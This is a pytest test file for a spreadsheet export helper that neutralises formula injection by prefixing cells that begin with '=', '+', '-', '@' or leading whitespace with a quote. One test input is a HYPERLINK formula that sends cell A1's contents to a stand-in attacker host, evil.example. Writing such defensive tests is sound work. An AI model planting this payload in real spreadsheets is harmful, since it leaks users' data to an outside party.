"""Export cells a spreadsheet would run as a formula are written as text."""

import datetime
from decimal import Decimal

import pytest

from core.spreadsheets import spreadsheet_cell, spreadsheet_row


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        (
            '=HYPERLINK("http://evil.example/?"&A1,"open")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"open")',
        ),
        ("+31 20 555 0100", "'+31 20 555 0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("  =1+1", "'  =1+1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        (" \t\r\n@x", "' \t\r\n@x"),
        ("\tplain", "'\tplain"),
        ("\rplain", "'\rplain"),
    ],
)
def test_formula_starts_are_written_as_text(value, written):
    assert spreadsheet_cell(value) == written


@pytest.mark.parametrize(
    "value",
    [
        "Scale AI",
        "Meta Platforms, Inc.",
        "a=b",
        "x-1",
        "user@example.com",
        " padded",
        "",
        "'quoted",
    ],
)
def test_ordinary_text_is_written_as_it_is(value):
    assert spreadsheet_cell(value) == value


def test_numbers_dates_and_empty_cells_are_untouched():
    row = [-5, Decimal("-0.5"), 42, None, datetime.date(2025, 6, 13), "=A1"]
    assert spreadsheet_row(row) == [
        -5,
        Decimal("-0.5"),
        42,
        None,
        datetime.date(2025, 6, 13),
        "'=A1",
    ]
